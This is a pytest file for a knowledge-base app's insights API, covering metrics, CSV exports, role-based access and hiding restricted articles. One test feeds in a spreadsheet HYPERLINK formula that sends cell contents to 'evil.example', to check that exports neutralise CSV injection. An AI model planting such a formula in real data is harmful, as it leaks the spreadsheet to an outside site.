"""`/api/insights/...`: the contract on both stores, who may read, CSV, SSO mode."""

from __future__ import annotations

import csv
import io
import os
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from flask import Flask
from flask.testing import FlaskClient

from kb.events import SearchEvent
from kb.insights.listed_findings import MAX_LISTED_FINDINGS
from kb.insights.records import GapQuestion, GapTopic
from kb.insights.store import insights_store
from kb.settings import Settings
from kb.store.protocols import Store
from tests.postgres import PostgresServer
from tests.support import FakeEngine, earlier_today, sign_in_as
from tests.webapp.test_api import fields_of
from webapp import create_app
from webapp.openapi.document import openapi_document
from webapp.services import services

OVERVIEW = (
    "searches",
    "answered_rate",
    "zero_result_rate",
    "click_through_rate",
    "helpful_ratio",
    "self_service_rate",
    "requests",
)
TOPIC = {"id", "label", "queries", "searches", "people", "department", "trend", "status"}


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def app(request: pytest.FixtureRequest, settings: Settings, engine: FakeEngine) -> Iterator[Flask]:
    url, drop = settings.database_url, None
    if request.param == "postgresql":
        server: PostgresServer = request.getfixturevalue("postgres_server")
        drop, url = server.create_database()
    app = create_app(
        {
            "KB_SETTINGS": settings.replace(database_url=url),
            "TESTING": True,
            "KB_ENGINE_FACTORY": lambda _settings: engine,
        }
    )
    yield app
    services(app).close()
    if drop is not None:
        request.getfixturevalue("postgres_server").drop_database(drop)


def _failed_search(store: Store, user: str, text: str, department: str, ts: datetime) -> None:
    store.log_search(
        SearchEvent(
            query=text,
            answered=False,
            user=user,
            person=f"address-{user}",
            lang="en",
            department=department,
            ts=ts,
            result_ids=[f"{department}/a.md"],
        )
    )


@pytest.fixture
def logged(store: Store, people: dict[str, Any]) -> int:
    """Failed searches about parking (four people) and one private question; one topic."""
    from kb.accounts.service import add_user

    add_user(store, "anna", "analyst", None)
    now = earlier_today()  # counted under today's date below
    for user, text in [
        ("a", "parking permit"),
        ("b", "parking permit"),
        ("c", "parking permit"),
        ("d", "Parkplatz beantragen"),
        ("e", "my salary is wrong call +49 170 1234567"),
    ]:
        _failed_search(store, user, text, "hr", now)
    gaps = insights_store(store)
    gaps.refresh()
    topic = gaps.save_topic(GapTopic(label="parking permit", department="hr", centroid=np.ones(4)))
    gaps.save_gap_questions(
        GapQuestion(text=t, lang="en", model="m", vector=np.ones(4), topic_id=topic.id)
        for t in ("parking permit", "parkplatz beantragen")
    )
    assert topic.id is not None
    return topic.id


def test_overview_answers_its_figures_by_name(client: FlaskClient, logged: int) -> None:
    sign_in_as(client, "anna")
    body = client.get("/api/insights/overview").get_json()
    for name in (*OVERVIEW, "people", "deflected", "deflection_rate"):
        assert name in body and name in body["previous"] and name in body["trend"]
    assert body["searches"] == 5 and body["answered_rate"] == 0.0 and body["requests"] == 0
    today = datetime.now(UTC).date().isoformat()
    one_day = client.get(f"/api/insights/overview?since={today}&until={today}").get_json()
    assert (one_day["since"], one_day["searches"]) == (today, 5)
    assert client.get("/api/insights/overview?department=it").get_json()["searches"] == 0


def test_overview_without_dates_names_today_as_its_last_day_as_the_page_does(
    client: FlaskClient, logged: int
) -> None:
    sign_in_as(client, "anna")
    today = datetime.now(UTC).date()
    body = client.get("/api/insights/overview").get_json()
    # `until` stays the exclusive end; `last_day` is the day the page shows.
    assert body["until"] == (today + timedelta(days=1)).isoformat()
    assert body["last_day"] == today.isoformat()
    page = client.get("/insights/").get_data(as_text=True)
    assert f'name="until" value="{body["last_day"]}"' in page
    asked = client.get(f"/api/insights/overview?until={today}").get_json()
    assert (asked["until"], asked["last_day"]) == (body["until"], body["last_day"])
    for path in ("gaps", "content", "requests"):
        assert client.get(f"/api/insights/{path}").get_json()["last_day"] == today.isoformat()


def test_gaps_answer_topics_with_only_texts_enough_people_asked(
    client: FlaskClient, logged: int
) -> None:
    sign_in_as(client, "anna")
    body = client.get("/api/insights/gaps").get_json()
    (topic,) = body["topics"]
    assert set(topic) >= TOPIC
    assert topic["id"] == logged and topic["queries"] == ["parking permit"]
    assert (topic["searches"], topic["people"], topic["status"]) == (4, 4, "open")
    assert topic["department"] == "hr" and topic["trend"] == 4
    assert "1234567" not in str(body)


def test_csv_export(client: FlaskClient, logged: int) -> None:
    sign_in_as(client, "anna")
    response = client.get("/api/insights/gaps?format=csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["id", "label", "searches"] and rows[1][1] == "parking permit"
    rows = list(
        csv.reader(
            io.StringIO(client.get("/api/insights/overview?format=csv").get_data(as_text=True))
        )
    )
    assert rows[1][:2] == ["searches", "5"]


def test_each_csv_download_is_named_for_the_slice_it_holds(
    client: FlaskClient, logged: int
) -> None:
    """Every download was `insights-overview.csv` whatever its department and
    period, and its rows do not say either: an analyst's HR and IT exports
    overwrote each other or passed for one another."""
    sign_in_as(client, "anna")
    period = "since=2026-11-01&until=2026-11-30"
    cases = {
        f"overview?{period}&department=hr": "insights-overview-hr-2026-11-01-to-2026-11-30.csv",
        f"overview?{period}&department=it": "insights-overview-it-2026-11-01-to-2026-11-30.csv",
        f"overview?{period}&by=week": "insights-overview-week-all-2026-11-01-to-2026-11-30.csv",
        f"overview?{period}&table=departments": (
            "insights-overview-departments-all-2026-11-01-to-2026-11-30.csv"
        ),
        f"gaps?{period}&status=open": "insights-gaps-all-open-2026-11-01-to-2026-11-30.csv",
        f"requests?{period}&department=hr": "insights-requests-hr-2026-11-01-to-2026-11-30.csv",
        f"content?{period}": "insights-content-all-2026-11-01-to-2026-11-30.csv",
    }
    for query, name in cases.items():
        response = client.get(f"/api/insights/{query}&format=csv")
        assert response.status_code == 200, query
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'


def test_the_gaps_csv_holds_every_figure_the_page_shows(client: FlaskClient, logged: int) -> None:
    """The page shows each topic's requests (and how many were resolved) and the
    department it is assigned to; the CSV had neither, so the download an
    analyst hands on lacked figures they had read on the page."""
    token = sign_in_as(client, "anna")
    assigned = client.post(
        f"/api/insights/gaps/{logged}/assign",
        json={"department": "it"},
        headers={"X-CSRF-Token": token},
    )
    assert assigned.status_code == 200
    described = openapi_document(client.application)["paths"]
    schema = described["/api/insights/gaps/{topic_id}/assign"]["post"]["responses"]["200"]
    properties = schema["content"]["application/json"]["schema"]["properties"]
    assert fields_of(assigned.get_json()) == fields_of(properties, schema=True)
    (topic,) = client.get("/api/insights/gaps").get_json()["topics"]
    text = client.get("/api/insights/gaps?format=csv").get_data(as_text=True)
    (row,) = csv.DictReader(io.StringIO(text))
    for name in ("id", "label", "searches", "people", "trend", "requests", "requests_resolved"):
        assert row[name] == str(topic[name]), name
    assert (row["assigned_department"], row["status"]) == ("it", "assigned")
    assert row["closed_by"] == "" and row["queries"] == "parking permit"


def test_overview_per_iso_week_on_request_and_unchanged_without(
    client: FlaskClient, logged: int
) -> None:
    sign_in_as(client, "anna")
    today = datetime.now(UTC).date()
    since = today - timedelta(days=20)
    plain = client.get(f"/api/insights/overview?since={since}&until={today}").get_json()
    assert "series" not in plain and "by" not in plain
    body = client.get(f"/api/insights/overview?since={since}&until={today}&by=week").get_json()
    assert body["by"] == "week" and body["searches"] == plain["searches"] == 5
    weeks = body["series"]
    year, week, _ = today.isocalendar()
    assert weeks[-1]["label"] == f"{year}-W{week:02d}" and weeks[-1]["until"] == today.isoformat()
    assert weeks[0]["since"] == since.isoformat()
    assert sum(w["days"] for w in weeks) == 21 and all(1 <= w["days"] <= 7 for w in weeks)
    assert (weeks[-1]["searches"], weeks[-1]["answered_rate"]) == (5, 0.0)
    assert all(w["answered_rate"] is None for w in weeks[:-1])  # nobody searched then
    # The week holding today has counted so far, as the chart's "so far" says.
    assert [w["partial"] for w in weeks] == [False] * (len(weeks) - 1) + [True]
    days = client.get(f"/api/insights/overview?since={since}&by=day").get_json()["series"]
    assert len(days) == 21 and days[-1]["label"] == today.isoformat()
    assert days[-1]["partial"] is True and not any(d["partial"] for d in days[:-1])
    text = client.get(f"/api/insights/overview?since={since}&by=week&format=csv")
    rows = list(csv.reader(io.StringIO(text.get_data(as_text=True))))
    assert rows[0][:5] == ["label", "since", "until", "days", "searches"]
    assert rows[-1][0] == weeks[-1]["label"] and rows[-1][4] == "5"
    assert rows[0][-1] == "partial" and [r[-1] for r in rows[-2:]] == ["false", "true"]
    yesterday = today - timedelta(days=1)
    past = client.get(f"/api/insights/overview?until={yesterday}&by=day").get_json()["series"]
    assert not any(d["partial"] for d in past)  # a period of days that are over
    refused = client.get("/api/insights/overview?by=month")
    assert refused.status_code == 400
    assert refused.get_json()["error"]["details"]["field"] == "by"


def test_csv_cells_are_text_never_formulas(
    client: FlaskClient, store: Store, people: dict[str, Any]
) -> None:
    """Anyone may search; four visitors' formula reached the analyst's spreadsheet
    as a live `=HYPERLINK`, which sends the sheet's cells to another site."""
    from kb.accounts.service import add_user

    add_user(store, "anna", "analyst", None)
    formula = '=hyperlink("http://evil.example/?"&a2,"details")'  # as the log folds it
    for user in "abcd":
        event = SearchEvent(
            query=formula,
            answered=False,
            user=user,
            person=f"address-{user}",
            lang="en",
            department="hr",
            ts=earlier_today(),
        )
        store.log_search(event)
    gaps = insights_store(store)
    gaps.refresh()
    topic = gaps.save_topic(GapTopic(label=formula, department="hr", centroid=np.ones(4)))
    question = GapQuestion(text=formula, lang="en", model="m", vector=np.ones(4), topic_id=topic.id)
    gaps.save_gap_questions([question])
    sign_in_as(client, "anna")
    text = client.get("/api/insights/gaps?format=csv").get_data(as_text=True)
    header, row = list(csv.reader(io.StringIO(text)))
    assert row[header.index("label")] == "'" + formula
    assert row[header.index("queries")] == "'" + formula
    assert client.get("/api/insights/gaps").get_json()["topics"][0]["label"] == formula


def test_assigning_a_gap_puts_it_on_the_department_s_page(client: FlaskClient, logged: int) -> None:
    token = sign_in_as(client, "anna")
    url = f"/api/insights/gaps/{logged}/assign"
    response = client.post(url, json={"department": "it"}, headers={"X-CSRF-Token": token})
    assert response.status_code == 200 and response.get_json()["status"] == "assigned"
    bad = client.post(url, json={"department": "nowhere"}, headers={"X-CSRF-Token": token})
    assert (
        bad.status_code == 400 and "no department “nowhere”" in bad.get_json()["error"]["message"]
    )
    sign_in_as(client, "cora")  # content owner of it: sees the gap assigned to it
    (topic,) = client.get("/api/insights/gaps").get_json()["topics"]
    assert topic["assigned_department"] == "it"
    refused = client.post(url, json={"department": "hr"}, headers={"X-CSRF-Token": "csrf-cora"})
    assert refused.status_code == 403


@pytest.mark.parametrize("who", ["emma", "ivan"])
def test_employees_and_agents_get_403(client: FlaskClient, logged: int, who: str) -> None:
    sign_in_as(client, who)
    for path in ("/api/insights/overview", "/api/insights/gaps", "/insights/", "/insights/gaps"):
        assert client.get(path).status_code == 403, path


def test_visitors_must_sign_in_and_owners_see_their_slice_only(
    client: FlaskClient, logged: int
) -> None:
    assert client.get("/api/insights/overview").status_code == 401
    sign_in_as(client, "cora")
    assert client.get("/api/insights/overview").get_json()["department"] == "it"
    denied = client.get("/api/insights/overview?department=hr")
    assert denied.status_code == 403 and denied.get_json()["error"]["code"] == "forbidden"


def test_bad_filters_get_the_one_error_shape(client: FlaskClient, logged: int) -> None:
    sign_in_as(client, "anna")
    body = client.get("/api/insights/gaps?since=March").get_json()
    assert body["error"]["code"] == "invalid_request" and "YYYY-MM-DD" in body["error"]["message"]
    assert client.get("/api/insights/gaps?department=mars").status_code == 400


def test_a_period_ending_before_it_starts_names_until(client: FlaskClient, logged: int) -> None:
    sign_in_as(client, "anna")
    query = "since=2026-03-10&until=2026-03-01"
    body = client.get(f"/api/insights/gaps?{query}").get_json()
    assert body["error"]["details"]["field"] == "until", body
    assert "must end after it starts" in body["error"]["message"]
    # The dates as typed: `until` is inclusive, not the day after it that ends the period.
    assert "2026-03-01" in body["error"]["message"], body
    assert "2026-03-02" not in body["error"]["message"], body
    assert body["error"]["details"]["until"] == "2026-03-01", body
    # The page shows its filter again, the end date marked and what was typed kept.
    page = client.get(f"/insights/gaps?{query}")
    html = page.get_data(as_text=True)
    assert page.status_code == 400
    until = html.split('name="until"', 1)[1].split(">", 1)[0]
    since = html.split('name="since"', 1)[1].split(">", 1)[0]
    assert 'aria-invalid="true"' in until and 'value="2026-03-01"' in until
    assert "aria-invalid" not in since and 'value="2026-03-10"' in since
    assert "must end after it starts" in html
    message = html.split("must end after it starts", 1)[1].split("<", 1)[0]
    assert "2026-03-10" in message and "2026-03-01" in message, message
    assert "2026-03-02" not in html


def test_dates_at_the_calendars_ends_are_400s_naming_the_field(
    client: FlaskClient, logged: int
) -> None:
    """`until=9999-12-31` (one day past it is the period's end) and a `since` whose
    previous period starts before year 1 answered 500 on every view and page."""
    sign_in_as(client, "anna")
    views = ("overview", "requests", "gaps", "content")
    for query, field in (
        ("until=9999-12-31", "until"),
        ("since=0001-01-01&until=2026-01-10", "since"),
        ("until=0001-01-01", "until"),
    ):
        for view in views:
            body = client.get(f"/api/insights/{view}?{query}").get_json()
            assert body["error"]["details"]["field"] == field, (view, query, body)
            assert f"({field})" in body["error"]["message"], body
            page = client.get(f"/insights/{'' if view == 'overview' else view}?{query}")
            assert page.status_code == 400, (view, query)
    assert client.get("/api/insights/overview?until=9998-12-31&since=9998-12-01").status_code == 200


def test_header_mode(app: Flask, client: FlaskClient, logged: int) -> None:
    svc = services(app)
    svc.settings = svc.settings.replace(auth_mode="header", trusted_proxies="127.0.0.1,::1")
    sso = {"X-Remote-User": "maria", "X-Remote-Groups": "analyst"}
    body = client.get("/api/insights/gaps", headers=sso).get_json()
    assert body["topics"][0]["id"] == logged
    assert client.get("/api/insights/overview", headers=sso).get_json()["searches"] == 5
    employee = {"X-Remote-User": "erik", "X-Remote-Groups": "employee"}
    assert client.get("/api/insights/overview", headers=employee).status_code == 403


def test_requests_per_department_with_targets_and_top_topics(
    client: FlaskClient, store: Store, logged: int
) -> None:
    from kb.requests.records import Request

    now = datetime.now(UTC)
    for i, who in enumerate(["r1", "r2", "r3", "r4"]):
        created = now - timedelta(hours=30 + i)
        store.create_request(
            Request(
                requester=who,
                query="Parking permit",
                department="hr",
                created=created,
                first_response_due=created + timedelta(hours=8),
                resolution_due=created + timedelta(hours=40),
                first_responded_at=created + timedelta(hours=1) if i < 3 else None,
                resolved_at=created + timedelta(hours=2 + i) if i < 2 else None,
                status="resolved" if i < 2 else "new",
            )
        )
    store.create_request(
        Request(
            requester="r5", query="my own thing", department="it", created=now - timedelta(hours=1)
        )
    )
    sign_in_as(client, "anna")
    body = client.get("/api/insights/requests").get_json()
    hr, it = body["departments"]
    assert (hr["department"], hr["requests"], it["department"]) == ("hr", 4, "it")
    assert hr["top_topics"][0] == {"label": "parking permit", "requests": 4, "topic_id": logged}
    (gap,) = client.get("/api/insights/gaps").get_json()["topics"]
    assert (gap["requests"], gap["requests_resolved"]) == (4, 2)
    assert it["top_topics"][0]["label"] == ""  # one requester: not shown
    assert hr["median_first_response_hours"] == 1.0 and hr["median_resolution_hours"] == 2.5
    assert hr["target_first_response_hours"] == 8 and hr["target_resolution_hours"] == 40
    # the one without a first response is past its due date: 3 of 4 answered in time
    assert hr["resolution_within_target"] == 1.0 and hr["first_response_within_target"] == 0.75
    assert (hr["backlog"], hr["overdue"]) == (2, 1)  # the one without a first response
    rows = list(
        csv.reader(
            io.StringIO(client.get("/api/insights/requests?format=csv").get_data(as_text=True))
        )
    )
    assert rows[0][0] == "department" and rows[1][:2] == ["hr", "4"]
    # Each topic with its count; one too few people asked is "(hidden)", not an empty name.
    assert rows[0][-1] == "top_topics"
    assert (rows[1][-1], rows[2][-1]) == ("parking permit (4)", "(hidden) (1)")
    page = client.get("/insights/requests").get_data(as_text=True)
    assert "parking permit (4)" in page and "<svg" in page


def test_content_health_names_findings_per_article(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    old = request_content / "hr" / "old.md"
    old.write_text(
        "---\ntitle: Old rules\nreview_by: 2020-01-01\n---\nSee [gone](gone.md).\n", "utf-8"
    )
    long_ago = time.time() - 100 * 86400
    os.utime(old, (long_ago, long_ago))
    (request_content / "hr" / "new.md").write_text(
        "---\ntitle: New rules\n---\nWritten today, shown by no search yet.\n", "utf-8"
    )
    sign_in_as(client, "anna")
    body = client.get("/api/insights/content").get_json()
    kinds = {(f["article"], f["kind"]) for f in body["findings"]}
    assert {
        ("hr/old.md", "review_overdue"),
        ("hr/old.md", "broken_link"),
        ("hr/old.md", "not_shown"),
    } <= kinds
    # A day-old article was "Not shown in 90 days": one written today is not.
    assert not any(article == "hr/new.md" for article, _ in kinds)
    link = next(f for f in body["findings"] if f["kind"] == "broken_link")
    assert link["target"] == "hr/gone.md"
    assert client.get("/api/insights/content?department=it").get_json()["findings"] == []
    page = client.get("/insights/content").get_data(as_text=True)
    assert "Review date passed" in page and "<svg" in page
    csv_text = client.get("/api/insights/content?format=csv").get_data(as_text=True)
    assert "hr/old.md,Old rules,hr,broken_link,target=hr/gone.md" in csv_text


def test_content_health_names_articles_by_their_title_with_the_id_beside(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """The table listed each article by its file id ("hr/old.md") alone: an
    analyst had to open it to learn which article it was."""
    (request_content / "hr" / "old.md").write_text(
        "---\ntitle: Old & odd rules\nreview_by: 2020-01-01\n---\nText.\n", "utf-8"
    )
    sign_in_as(client, "anna")
    for lang in ("en", "de"):
        page = client.get(f"/insights/content?hl={lang}").get_data(as_text=True)
        row = page[page.index('<tr data-kind="review_overdue">') :]
        row = row[: row.index("</tr>")]
        assert '<a href="/articles/hr/old.md" title="hr/old.md">Old &amp; odd rules</a>' in row
        assert '<small class="muted">hr/old.md</small>' in row
    findings = client.get("/api/insights/content").get_json()["findings"]
    assert {f["title"] for f in findings if f["article"] == "hr/old.md"} == {"Old & odd rules"}
    lines = client.get("/api/insights/content?format=csv").get_data(as_text=True).splitlines()
    assert lines[0] == "article,title,department,kind,detail"
    assert "hr/old.md,Old & odd rules,hr,review_overdue,review_by=2020-01-01" in lines


def test_content_findings_are_sentences_in_the_page_s_language(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """The page listed each finding's raw fields ("review_by: 2020-01-01",
    "target: hr/gone.md"), in English on German pages too."""
    (request_content / "hr" / "old.md").write_text(
        "---\ntitle: Old rules\nreview_by: 2020-01-01\n---\nSee [gone](gone.md).\n", "utf-8"
    )
    sign_in_as(client, "anna")
    german = client.get("/insights/content?hl=de").get_data(as_text=True)
    assert "die Prüfung war am 1. Januar 2020 fällig" in german
    assert "verweist auf hr/gone.md" in german and "review_by" not in german
    english = client.get("/insights/content?hl=en").get_data(as_text=True)
    assert "the review was due on 1 January 2020" in english and "target:" not in english


def test_an_article_with_thousands_of_broken_links_lists_twenty_and_counts_the_rest(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """A content owner may publish any file: one with 20,000 broken links made
    the content page take about 10 s a view and weigh 6 MB for every analyst.
    Each article lists its first findings of a kind and counts the rest, the
    API keeps the true count of each, the chart counts them all."""
    missing = ", ".join(f"hr/gone-{i:04}.md" for i in range(3000))
    (request_content / "hr" / "many.md").write_text(
        f"---\ntitle: Many links\nreview_by: 2020-01-01\nrelated: [{missing}]\n---\n"
        "See [gone](gone.md).\n",
        "utf-8",
    )
    sign_in_as(client, "anna")
    body = client.get("/api/insights/content").get_json()
    broken = [f["target"] for f in body["findings"] if f["kind"] == "broken_link"]
    assert broken == [f"hr/gone-{i:04}.md" for i in range(MAX_LISTED_FINDINGS)]
    assert {"article": "hr/many.md", "kind": "broken_link", "total": 3001, "listed": 20} in (
        body["totals"]
    )
    assert {"article": "hr/many.md", "kind": "review_overdue", "total": 1, "listed": 1} in (
        body["totals"]
    )
    described = openapi_document(client.application)["components"]["schemas"]["ContentHealth"]
    assert set(body) - {"since", "until", "last_day", "department"} <= set(described["properties"])
    assert fields_of(body["totals"][0]) == set(
        described["properties"]["totals"]["items"]["required"]
    )
    for lang, more, bar in (
        ("en", "and 2,981 more broken links in this article", "Broken link</th><td>3\u202f001<"),
        (
            "de",
            "und 2.981 weitere defekte Links in diesem Artikel",
            "Defekter Link</th><td>3\u202f001<",
        ),
    ):
        page = client.get(f"/insights/content?hl={lang}").get_data(as_text=True)
        rows = page.count('<tr data-kind="broken_link"')
        assert rows == MAX_LISTED_FINDINGS + 1 and page.count(more) == 1
        assert "hr/gone-0020.md" not in page and "hr/gone-2999.md" not in page
        assert bar in page  # the chart counts every finding
    lines = client.get("/api/insights/content?format=csv").get_data(as_text=True).splitlines()
    rows = [line for line in lines if line.startswith("hr/many.md,Many links,hr,broken_link,")]
    assert len(rows) == MAX_LISTED_FINDINGS + 1
    assert rows[-1] == "hr/many.md,Many links,hr,broken_link,more=2981"


SALARY_TEXT = (
    "Salary bands for every grade are set each spring by the pay committee and "
    "apply from the first of April until the next review of the bands."
)


def test_content_health_shows_only_articles_the_reader_may_read(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """Analysts saw the ids of restricted articles (and a near-duplicate's other,
    restricted article) in content health: the page, its API and CSV now hold
    only what the reader may read, as the article page does."""
    (request_content / "hr" / "salary-bands.md").write_text(
        f"---\ntitle: Salary bands\naudience: [hr]\nreview_by: 2020-01-01\n---\n{SALARY_TEXT}\n",
        "utf-8",
    )
    (request_content / "hr" / "pay.md").write_text(
        f"---\ntitle: Pay\nreview_by: 2020-01-01\n---\n{SALARY_TEXT}\n", "utf-8"
    )
    sign_in_as(client, "ada")  # an admin reads every article
    kinds = {
        (f["article"], f["kind"])
        for f in client.get("/api/insights/content").get_json()["findings"]
    }
    assert {("hr/salary-bands.md", "review_overdue"), ("hr/pay.md", "near_duplicate")} <= kinds
    sign_in_as(client, "anna")
    findings = client.get("/api/insights/content").get_json()["findings"]
    assert {f["article"] for f in findings} == {"hr/pay.md"}
    assert "near_duplicate" not in {f["kind"] for f in findings}
    page = client.get("/insights/content").get_data(as_text=True)
    csv_text = client.get("/api/insights/content?format=csv").get_data(as_text=True)
    assert "salary-bands" not in page and "salary-bands" not in csv_text
    assert "hr/pay.md" in page and "hr/pay.md" in csv_text


def test_a_closed_gap_names_only_an_article_the_reader_may_read(
    store: Store, client: FlaskClient, logged: int, request_content: Path
) -> None:
    """A gap is closed by the article that now answers its questions, found by
    searching as an unrestricted caller: the gaps page and its API named that
    article's id to every analyst and content owner, a restricted one
    (`hr/salary-bands.md`) too. Readers who may not read it learn the gap was
    closed and by how much, not by what."""
    from dataclasses import replace

    from kb.insights.records import TopicStatus

    (request_content / "hr" / "salary-bands.md").write_text(
        f"---\ntitle: Salary bands\naudience: [managers]\n---\n{SALARY_TEXT}\n", "utf-8"
    )
    gaps = insights_store(store)
    gaps.save_topic(
        replace(
            gaps.topic(logged),
            status=TopicStatus.CLOSED,
            assigned_department="it",  # so that IT's content owner sees it too
            closed_by="hr/salary-bands.md",
            answered_before=0.0,
            answered_after=0.75,
        )
    )
    sign_in_as(client, "ada")  # an admin reads every article
    (topic,) = client.get("/api/insights/gaps").get_json()["topics"]
    assert topic["closed_by"] == "hr/salary-bands.md"
    for reader in ("anna", "cora"):  # an analyst; a content owner of another department
        sign_in_as(client, reader)
        (topic,) = client.get("/api/insights/gaps").get_json()["topics"]
        assert topic["status"] == "closed" and topic["closed_by"] is None
        assert topic["answered_after"] == 0.75
        page = client.get("/insights/gaps?hl=en").get_data(as_text=True)
        assert "salary-bands" not in page
        assert "answered 0 % before, 75 % after" in page


def test_a_broken_link_never_tells_whether_an_unreadable_article_exists(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """A link counted as broken only when its target did not exist: a content
    owner of IT who wrote `related: [hr/salary-bands.md, hr/guess.md]` into an
    IT article learnt from content health which of HR's restricted articles
    exist. A link is broken for a reader when no article they may read has
    its id; administrators still see exactly which targets are missing."""
    (request_content / "hr" / "salary-bands.md").write_text(
        f"---\ntitle: Salary bands\naudience: [managers]\n---\n{SALARY_TEXT}\n", "utf-8"
    )
    (request_content / "it" / "pay-links.md").write_text(
        "---\ntitle: Pay links\nrelated: [hr/salary-bands.md, hr/guess.md]\n---\nLinks.\n",
        "utf-8",
    )

    def broken(reader: str) -> set[str]:
        sign_in_as(client, reader)
        found = client.get("/api/insights/content?department=it").get_json()["findings"]
        return {f["target"] for f in found if f["kind"] == "broken_link"}

    assert broken("ada") == {"hr/guess.md"}  # an admin reads every article
    assert broken("cora") == {"hr/guess.md", "hr/salary-bands.md"}  # IT's content owner
    assert broken("anna") == {"hr/guess.md", "hr/salary-bands.md"}  # an analyst


def test_a_link_to_a_managers_only_article_is_not_called_broken(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """The sample's annual-leave article, open to everyone, names HR's article on
    approving leave, open to managers: content health called that a broken link,
    a false alarm. It is its own kind now, naming who may not open the target,
    on the page, in the JSON and the CSV; the target's title stays unsaid."""
    title = "Approving leave requests as a manager"
    (request_content / "hr" / "approving.md").write_text(
        f"---\ntitle: {title}\naudience: [managers]\n---\nWhat managers check.\n", "utf-8"
    )
    (request_content / "hr" / "leave.md").write_text(
        "---\ntitle: Annual leave\nrelated: [hr/approving.md, hr/gone.md]\n---\nLeave.\n",
        "utf-8",
    )
    sign_in_as(client, "anna")  # an analyst, not among the managers
    body = client.get("/api/insights/content?department=hr").get_json()
    links = {(f["kind"], f["target"]) for f in body["findings"] if "target" in f}
    assert links == {("broken_link", "hr/gone.md"), ("restricted_link", "hr/approving.md")}
    (restricted,) = [f for f in body["findings"] if f["kind"] == "restricted_link"]
    assert (restricted["audience"], restricted["missing_audience"]) == (["managers"], ["everyone"])
    csv_text = client.get("/api/insights/content?department=hr&format=csv").get_data(as_text=True)
    assert (
        "hr/leave.md,Annual leave,hr,restricted_link,target=hr/approving.md; audience=managers; "
        "missing_audience=everyone" in csv_text
    )
    page = client.get("/insights/content?department=hr&hl=en").get_data(as_text=True)
    assert "Links to an article some of its readers may not open" in page
    assert "links to hr/approving.md, which only managers may open" in page
    for text in (str(body), csv_text, page):
        assert title not in text


def test_value_streams_in_the_requests_view(app: Flask, client: FlaskClient, logged: int) -> None:
    from kb.accounts.records import Grant, Role, User

    service = services(app).requests
    erik = User(username="erik", display_name="Erik", grants=[Grant(role=Role.EMPLOYEE)])
    hanna = User(
        username="hanna", display_name="Hanna", grants=[Grant(role=Role.AGENT, department="hr")]
    )
    request = service.submit(erik, "onboarding a new hire", workflow="onboarding")
    assert request.id is not None
    service.complete_task(hanna, request.id, 1)
    sign_in_as(client, "anna")
    (stream,) = client.get("/api/insights/requests").get_json()["value_streams"]
    record, laptop = stream["tasks"]
    assert stream["workflow"] == "onboarding" and record["done"] == 1
    assert laptop["department"] == "it" and laptop["waiting_now"] == 1


def test_content_owners_see_findings_on_every_article_of_their_department(
    client: FlaskClient, logged: int, request_content: Path
) -> None:
    """A content owner edits every article of their department, restricted ones
    too, but content health hid the findings on those their own groups could not
    read: an overdue review of a restricted IT article went unseen by IT's owner.
    Another department's restricted article stays hidden from them."""
    (request_content / "it" / "admin-accounts.md").write_text(
        f"---\ntitle: Admin accounts\naudience: [it-admins]\nreview_by: 2020-01-01\n---\n"
        f"{SALARY_TEXT}\n",
        "utf-8",
    )
    (request_content / "hr" / "salary-bands.md").write_text(
        f"---\ntitle: Salary bands\naudience: [hr]\n---\n{SALARY_TEXT}\n", "utf-8"
    )
    sign_in_as(client, "cora")  # content owner of it, not in it-admins or hr
    findings = client.get("/api/insights/content").get_json()["findings"]
    kinds = {(f["article"], f["kind"]) for f in findings}
    assert ("it/admin-accounts.md", "review_overdue") in kinds
    assert "salary-bands" not in str(findings)  # the near-duplicate in hr stays unnamed
    sign_in_as(client, "anna")  # an analyst without the group
    findings = client.get("/api/insights/content").get_json()["findings"]
    assert "admin-accounts" not in str(findings)


def test_a_period_too_long_names_since_and_the_pages_mark_it(
    client: FlaskClient, logged: int
) -> None:
    """A period of more than three years was a 400 naming no field: the pages
    answered an error page instead of their filter with the start date marked."""
    sign_in_as(client, "anna")
    query = "since=2020-01-01&until=2026-03-01"
    body = client.get(f"/api/insights/overview?{query}").get_json()
    details = body["error"]["details"]
    assert (details["field"], details["since"], details["until"]) == (
        "since",
        "2020-01-01",
        "2026-03-01",
    )
    page = client.get(f"/insights/?{query}")
    html = page.get_data(as_text=True)
    assert page.status_code == 400
    since = html.split('name="since"', 1)[1].split(">", 1)[0]
    assert 'aria-invalid="true"' in since and 'value="2020-01-01"' in since


def test_a_topic_s_label_too_few_people_asked_in_the_period_is_not_shown(
    client: FlaskClient, store: Store, logged: int
) -> None:
    """A label is chosen over the days of a topic update; over a shorter period
    the page showed it even when only two people had asked it then, against
    the minimum-people rule. It now shows a question the period may show, or none."""
    for user in "xy":
        store.log_search(
            SearchEvent(
                query="printer toner",
                answered=False,
                user=user,
                person=f"address-{user}",
                ts=earlier_today(),
            )
        )
    gaps = insights_store(store)
    gaps.refresh()
    topic = gaps.save_topic(GapTopic(label="printer toner", department="it", centroid=np.ones(4)))
    gaps.save_gap_questions(
        [
            GapQuestion(
                text="printer toner", lang="en", model="m", vector=np.ones(4), topic_id=topic.id
            )
        ]
    )
    sign_in_as(client, "anna")
    topics = {t["id"]: t for t in client.get("/api/insights/gaps").get_json()["topics"]}
    assert (topics[topic.id]["label"], topics[topic.id]["queries"]) == ("", [])
    assert topics[logged]["label"] == "parking permit"
    assert "printer toner" not in client.get("/insights/gaps").get_data(as_text=True)
    assert "printer toner" not in client.get("/api/insights/gaps?format=csv").get_data(as_text=True)


def test_a_request_topic_is_named_only_by_a_question_enough_people_asked(
    client: FlaskClient, store: Store, logged: int
) -> None:
    """Three requesters asked about toner, each in their own words, and the
    topic's label was searched by two people: the requests page named the
    topic by that label all the same. Like the gaps page, it now names a
    topic only by a question at least `insights_min_people` people asked."""
